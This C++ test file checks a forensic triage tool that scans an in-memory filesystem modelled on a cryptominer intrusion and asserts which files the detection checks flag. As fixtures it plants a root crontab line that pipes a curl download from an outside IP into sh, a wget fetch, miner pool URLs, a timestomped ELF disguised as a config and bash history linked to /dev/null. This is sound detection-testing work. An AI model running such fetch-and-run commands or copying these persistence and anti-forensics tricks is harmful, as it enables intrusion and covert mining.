// SPDX-License-Identifier: Apache-2.0
// collect::run_targets on an in-memory tree shaped like the seed incident: records, then the
// file checks' findings on those records.
#include "deadbox/collect/collect.hpp"

#include <gtest/gtest.h>

#include <cstring>
#include <map>
#include <set>
#include <sstream>

#include "deadbox/checks/check.hpp"
#include "deadbox/collect/output.hpp"
#include "deadbox/tree/memory_tree.hpp"
#include "deadbox/util/time_format.hpp"

namespace deadbox::collect {
namespace {

using tree::MemoryTree;
using tree::Stat;

constexpr int64_t kS = 1'000'000'000;
const int64_t kIncident = *timefmt::parse_iso("2024-06-30T21:14:05Z");

std::string elf(uint8_t type, std::string_view tail = {}) {
  std::string e(64, '\0');
  e[0] = 0x7f, e[1] = 'E', e[2] = 'L', e[3] = 'F', e[4] = 2, e[5] = 1, e[6] = 1;
  e[16] = static_cast<char>(type);
  return e + std::string(tail);
}

Stat at(int64_t mtime, int64_t ctime, uint32_t mode = 0644) {
  Stat s;
  s.mtime = mtime;
  s.ctime = ctime;
  s.atime = ctime;
  s.mode = mode;
  return s;
}

class TableSelector final : public ArtifactSelector {
 public:
  std::vector<std::string> match(std::string_view path) const override {
    if (path == "/etc/passwd") return {"UnixPasswdFile"};
    if (path.ends_with("/.bash_history")) return {"BashShellHistoryFile"};
    return {};
  }
};

struct Outcome {
  parsers::RecordStore store;
  Diagnostics diag;
  std::vector<std::string> homes;
  std::vector<checks::Finding> findings;
};

class SeedTree : public ::testing::Test {
 protected:
  void SetUp() override {
    knowledge_ = checks::Knowledge::load(DEADBOX_ARTIFACTS_DIR);
    const int64_t t = kIncident;
    fs_.add_file("/etc/passwd",
                 "root:x:0:0:root:/root:/bin/bash\nalice:x:1000:1000::/home/alice:/bin/bash\n",
                 at(t - 900 * 86400 * kS, t - 900 * 86400 * kS));
    fs_.add_file("/etc/crontab", "*/5 * * * * root curl -fsSL http://198.51.100.7/x | sh\n",
                 at(t, t + 123456789));
    fs_.add_file("/boot/vmlinuz-6.1.0-13-amd64", "MZ\x90\x00 bzImage", at(t - 86400 * kS, t));
    fs_.add_file("/boot/grub/i386-pc/normal.mod", elf(1), at(t - 86400 * kS, t));
    fs_.add_file("/boot/wkwfnxjpaa",
                 elf(2, "..stratum+tcp://pool.minexmr.com:4444..wget http://198.51.100.7/b"),
                 at(t, t, 0755));
    fs_.add_deleted_file("/boot/ezfvmlunqc", elf(2), at(t, t + kS / 2));
    fs_.add_deleted_file("/boot/qpxzrvtkwd", elf(2), at(t, t + kS));
    // The 003 case: an ELF posing as a config, mtime forged years back, ctime is now.
    fs_.add_file("/etc/security/ntps.conf", elf(2),
                 at(*timefmt::parse_iso("2015-03-01T08:00:00Z"), t + 17, 0755));
    fs_.add_symlink("/root/.bash_history", "/dev/null", at(t, t));
    fs_.add_file("/tmp/.x/kdevtmpfsi", elf(3), at(t + 5 * kS, t + 5 * kS, 0755));
    fs_.add_dir("/tmp/.X11-unix", at(t, t, 01777));
    fs_.add_file("/usr/bin/ls", elf(3), at(t - 400 * 86400 * kS, t - 300 * 86400 * kS, 0755));
    fs_.add_file("/var/lib/dpkg/info/coreutils.list", "/.\n/bin\n/bin/ls\n", at(t, t));
    fs_.add_file("/home/alice/notes.txt", "remember: curl -I https://example.org\n", at(t, t));
    fs_.add_file("/opt/tool/helper.ko", elf(1), at(t, t));
  }

  Outcome run_once() {
    Outcome r;
    Options o;
    o.knowledge = &knowledge_;
    o.selector = [&r](std::vector<std::string> homes) {
      r.homes = homes;
      return std::make_unique<TableSelector>();
    };
    run_targets({{"p1", "/", &fs_}}, {}, o, r.store, r.diag);
    r.findings = checks::run_all(r.store, knowledge_, r.diag);
    return r;
  }

  checks::Knowledge knowledge_;
  MemoryTree fs_;
};

const parsers::Record* find(const parsers::RecordStore& s, std::string_view type,
                            std::string_view path, std::string_view field = {},
                            std::string_view value = {}) {
  for (const auto& r : s.of(type))
    if (r.source->path == path && (field.empty() || r.str(field) == value)) return &r;
  return nullptr;
}

TEST_F(SeedTree, HomesComeFromPasswdBeforeTheWalk) {
  const Outcome r = run_once();
  EXPECT_EQ(r.homes, (std::vector<std::string>{"/home/alice", "/root"}));
  const auto* pw = find(r.store, "unix/passwd", "/etc/passwd", "name", "alice");
  ASSERT_NE(pw, nullptr);
  EXPECT_EQ(pw->source->artifact, "UnixPasswdFile");
  EXPECT_EQ(pw->source->volume, "p1");
}

TEST_F(SeedTree, ArtifactSymlinkIsRecorded) {
  const Outcome r = run_once();
  const auto* a = find(r.store, "fs/artifact", "/root/.bash_history");
  ASSERT_NE(a, nullptr);
  EXPECT_EQ(a->str("file_type"), "symlink");
  EXPECT_EQ(a->str("symlink_target"), "/dev/null");
  EXPECT_EQ(a->source->artifact, "BashShellHistoryFile");
}

TEST_F(SeedTree, FileRecordsCarryElfScopeAndOwnership) {
  const Outcome r = run_once();
  const auto* miner = find(r.store, "fs/file", "/boot/wkwfnxjpaa");
  ASSERT_NE(miner, nullptr);
  EXPECT_EQ(miner->flag("is_elf"), true);
  EXPECT_EQ(miner->str("elf_kind"), "exec");
  EXPECT_NE(miner->str("scope")->find("random_name"), std::string_view::npos);
  EXPECT_EQ(miner->i64("mode"), 0755);
  EXPECT_EQ(miner->time("mtime"), kIncident);
  const auto* gone = find(r.store, "fs/file", "/boot/ezfvmlunqc");
  ASSERT_NE(gone, nullptr);
  EXPECT_EQ(gone->flag("deleted"), true);
  // Packaged (usr-merged /bin/ls) and in a binary directory: not recorded at all.
  EXPECT_EQ(find(r.store, "fs/file", "/usr/bin/ls"), nullptr);
  // Outside the odd places and not ELF: content-scanned, but no fs/file record.
  EXPECT_EQ(find(r.store, "fs/file", "/home/alice/notes.txt"), nullptr);
  EXPECT_NE(find(r.store, "fs/content_match", "/home/alice/notes.txt"), nullptr);
}

TEST_F(SeedTree, ContentMatchesForMinerBinary) {
  const Outcome r = run_once();
  const auto* pool =
      find(r.store, "fs/content_match", "/boot/wkwfnxjpaa", "indicator", "stratum+tcp://");
  ASSERT_NE(pool, nullptr);
  EXPECT_EQ(pool->i64("offset"), 66);
  EXPECT_EQ(pool->flag("is_elf"), true);
  EXPECT_NE(find(r.store, "fs/content_match", "/boot/wkwfnxjpaa", "indicator", "minexmr.com"),
            nullptr);
  EXPECT_NE(find(r.store, "fs/content_match", "/boot/wkwfnxjpaa", "indicator", "wget "), nullptr);
}

TEST_F(SeedTree, EveryPlantedIndicatorIsFoundAtMediumOrAbove) {
  const Outcome r = run_once();
  std::map<std::string, std::set<std::string>> by_check;  // check → paths (first evidence)
  for (const auto& f : r.findings) {
    ASSERT_FALSE(f.evidence.empty()) << f.check_id;
    by_check[f.check_id].insert(f.evidence.front().path);
  }
  auto has = [&](const char* check, const char* path) { return by_check[check].count(path) == 1; };
  EXPECT_TRUE(has("files/elf_in_odd_place", "/boot/wkwfnxjpaa"));
  EXPECT_TRUE(has("files/elf_in_odd_place", "/tmp/.x/kdevtmpfsi"));
  EXPECT_TRUE(has("files/elf_behind_non_exec_name", "/etc/security/ntps.conf"));
  EXPECT_TRUE(has("files/timestomp", "/etc/security/ntps.conf"));
  EXPECT_TRUE(has("files/random_name", "/boot/wkwfnxjpaa"));
  EXPECT_TRUE(has("files/kernel_thread_lookalike", "/tmp/.x/kdevtmpfsi"));
  EXPECT_TRUE(has("files/hidden_dir_in_system_path", "/tmp/.x"));
  EXPECT_TRUE(has("files/deleted_in_sensitive_dir", "/boot/ezfvmlunqc"));
  EXPECT_TRUE(has("files/indicator_content", "/boot/wkwfnxjpaa"));
  EXPECT_TRUE(has("files/kernel_module_odd_place", "/opt/tool/helper.ko"));
  EXPECT_TRUE(has("files/history_to_devnull", "/root/.bash_history"));
  for (const auto& f : r.findings) {
    if (f.check_id.starts_with("files/") && f.check_id != "files/indicator_content") {
      EXPECT_GE(f.severity, checks::Severity::kMedium) << f.check_id << " " << f.message;
    }
  }
  // The miner's pool URL is the critical one.
  bool critical_pool = false;
  for (const auto& f : r.findings)
    critical_pool |= f.check_id == "files/indicator_content" &&
                     f.severity == checks::Severity::kCritical && f.attack_id == "T1496.001";
  EXPECT_TRUE(critical_pool);
}

TEST_F(SeedTree, OrdinaryFilesRaiseNothing) {
  const Outcome r = run_once();
  for (const auto& f : r.findings) {
    if (!f.check_id.starts_with("files/")) continue;
    for (const char* benign :
         {"/usr/bin/ls", "/boot/vmlinuz-6.1.0-13-amd64", "/boot/grub/i386-pc/normal.mod",
          "/tmp/.X11-unix", "/home/alice/notes.txt", "/etc/passwd"})
      EXPECT_NE(f.evidence.front().path, benign) << f.check_id << ": " << f.message;
  }
}

TEST_F(SeedTree, DeletedSiblingsFormOneBurst) {
  const Outcome r = run_once();
  int bursts = 0;
  for (const auto& f : r.findings) {
    if (f.check_id != "files/deleted_in_sensitive_dir") continue;
    ++bursts;
    EXPECT_EQ(f.evidence.size(), 2u);
    EXPECT_EQ(f.severity, checks::Severity::kHigh);  // random names among them
  }
  EXPECT_EQ(bursts, 1);
}

TEST_F(SeedTree, OutputIsDeterministic) {
  Outcome a = run_once();
  Outcome b = run_once();
  std::ostringstream fa, fb;
  write_findings_jsonl(a.findings, fa);
  write_findings_jsonl(b.findings, fb);
  EXPECT_EQ(fa.str(), fb.str());
  EXPECT_FALSE(fa.str().empty());
  ASSERT_EQ(a.store.types(), b.store.types());
  for (const auto& t : a.store.types()) {
    const auto &ra = a.store.of(t), &rb = b.store.of(t);
    ASSERT_EQ(ra.size(), rb.size()) << t;
    for (size_t i = 0; i < ra.size(); ++i) EXPECT_EQ(record_json(ra[i]), record_json(rb[i]));
  }
}

TEST(CollectBudget, ScanBudgetStopsContentScanAndSaysSo) {
  checks::Knowledge k = checks::Knowledge::load(DEADBOX_ARTIFACTS_DIR);
  MemoryTree fs;
  fs.add_file("/tmp/a", "xxxx curl http://a\n");
  fs.add_file("/tmp/b", "xxxx curl http://b\n");
  Options o;
  o.knowledge = &k;
  o.limits.max_scan_bytes_total = 20;  // enough for /tmp/a only
  parsers::RecordStore store;
  Diagnostics diag;
  run_targets({{"p1", "/", &fs}}, {}, o, store, diag);
  ASSERT_EQ(store.of("fs/content_match").size(), 1u);
  EXPECT_EQ(store.of("fs/content_match")[0].source->path, "/tmp/a");
  // /tmp/b got 1 byte of budget: it was not searched, and the diagnostics say so.
  EXPECT_EQ(diag.counts()["scan_budget_exhausted"], 1u);
}

TEST(CollectPrefix, UnmountedVolumesUseTheirPrefix) {
  checks::Knowledge k = checks::Knowledge::load(DEADBOX_ARTIFACTS_DIR);
  MemoryTree boot;
  boot.add_file("/wkwfnxjpaa", elf(2));
  Options o;
  o.knowledge = &k;
  parsers::RecordStore store;
  Diagnostics diag;
  run_targets({{"p1", "/boot", &boot}}, {}, o, store, diag);
  ASSERT_EQ(store.of("fs/file").size(), 1u);
  EXPECT_EQ(store.of("fs/file")[0].source->path, "/boot/wkwfnxjpaa");
  EXPECT_EQ(store.of("fs/file")[0].source->volume, "p1");
}

class StringSource final : public image::ByteSource {
 public:
  explicit StringSource(std::string data) : data_(std::move(data)) {}
  uint64_t size() const override { return data_.size(); }
  size_t read_at(uint64_t off, std::span<std::byte> buf) override {
    if (off >= data_.size()) return 0;
    const size_t n = std::min<size_t>(buf.size(), data_.size() - off);
    std::memcpy(buf.data(), data_.data() + off, n);
    return n;
  }
  std::string describe() const override { return "swap"; }

 private:
  std::string data_;
};

TEST(CollectSwap, PoolUrlInSwapIsEvidenceOfARunningMiner) {
  checks::Knowledge k = checks::Knowledge::load(DEADBOX_ARTIFACTS_DIR);
  std::string pages(3 << 20, '\0');
  pages.replace(2 << 20, 38, "-o stratum+tcp://xmr.c3pool.com:13333 ");
  StringSource swap(pages);
  Options o;
  o.knowledge = &k;
  parsers::RecordStore store;
  Diagnostics diag;
  run_targets({}, {{"p5", "p5:swap", &swap}}, o, store, diag);
  const auto& hits = store.of("fs/content_match");
  ASSERT_EQ(hits.size(), 2u);  // stratum+tcp:// and c3pool.com
  EXPECT_EQ(hits[0].source->path, "p5:swap");
  EXPECT_EQ(hits[0].i64("offset"), (2 << 20) + 3);
  EXPECT_EQ(hits[0].flag("in_swap"), true);
  const auto findings = checks::run_all(store, k, diag);
  ASSERT_EQ(findings.size(), 1u);
  EXPECT_EQ(findings[0].severity, checks::Severity::kCritical);
  EXPECT_NE(findings[0].message.find("swap"), std::string::npos);
}

}  // namespace
}  // namespace deadbox::collect
